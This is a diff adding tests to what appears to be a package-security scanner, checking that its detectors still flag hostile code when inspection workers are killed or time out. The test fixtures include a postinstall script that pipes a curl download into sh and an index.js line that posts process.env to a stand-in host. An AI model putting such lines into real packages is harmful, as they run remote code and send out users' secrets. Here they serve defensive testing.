@@ -1,13 +1,18 @@
 from __future__ import annotations
 
+import asyncio
 import io
 import json
+import os
 import tarfile
-from datetime import UTC, datetime
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
 
 import msgspec
 import pytest
 
+from assay.assessment.ports import Blob
+from assay.errors import WorkerDied
 from assay.model.gap import GapKind
 from assay.model.inspection import Inspection
 from assay.model.integrity import Integrity
@@ -15,7 +20,8 @@ from assay.model.manifest import Manifest
 from assay.model.package import PackageRef
 from assay.model.packument import Release
 from assay.model.subject import Existence, Subject
-from assay.wiring.inspector import Job, inspect_job
+from assay.wiring.inspector import Job, PoolInspector, inspect_job
+from assay.workers.pool import WorkerLimits, WorkerPool
 
 THEN = datetime(2026, 3, 4, tzinfo=UTC)
 REF = PackageRef("pkg", "1.0.0")
@@ -70,3 +76,44 @@ def test_half_a_character_pair_in_a_manifest_hides_nothing() -> None:
     found = inspected(packed({"package.json": json.dumps(manifest).encode()}))
     assert found.findings
     assert not [gap for gap in found.gaps if gap.kind is GapKind.DETECTOR]
+
+
+def in_hostile_workers(name: str, data: bytes, monkeypatch: pytest.MonkeyPatch) -> Inspection:
+    root = Path(__file__).parents[2]
+    monkeypatch.setenv("PYTHONPATH", os.pathsep.join((str(root / "src"), str(root))))
+    subject = Subject(PackageRef(name, "1.0.0"), THEN, Existence.EXISTS)
+
+    async def run() -> Inspection:
+        limits = WorkerLimits(deadline=timedelta(seconds=8))
+        pool = WorkerPool("tests.wiring.hostile_target:inspect_job", 1, limits)
+        try:
+            return await PoolInspector(pool).inspect(subject, Blob(len(data), Integrity.of(data), data), "")
+        finally:
+            await pool.close()
+
+    return asyncio.run(run())
+
+
+@pytest.mark.parametrize(("name", "why"), [("tangle-thing", "SIGKILL"), ("knot-thing", "longer than 8 seconds")])
+def test_code_that_takes_its_worker_along_is_looked_over_by_another(
+    name: str, why: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": "curl http://a.invalid | sh"}}
+    code = b"fetch('https://a.invalid/' + JSON.stringify(process.env));"
+    data = packed({"package.json": json.dumps(manifest).encode(), "index.js": code})
+    found = in_hostile_workers(name, data, monkeypatch)
+    (gap,) = found.gaps
+    assert (gap.kind, gap.what) == (GapKind.SOURCE, f"code of {name}@1.0.0")
+    assert "only looked over" in gap.why
+    assert why in gap.why
+    rules = {finding.rule_id for finding in found.findings}
+    assert any("script" in rule for rule in rules)
+    honest = inspect_job(msgspec.msgpack.encode(Job(Subject(REF, THEN, Existence.EXISTS), data)))
+    followed = {finding.rule_id for finding in msgspec.msgpack.decode(honest, type=Inspection).findings}
+    assert rules < followed
+    assert found.integrity == Integrity.of(data)
+
+
+def test_a_release_that_takes_two_workers_along_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
+    with pytest.raises(WorkerDied, match="SIGKILL"):
+        in_hostile_workers("killer-thing", packed({"package.json": MANIFEST}), monkeypatch)
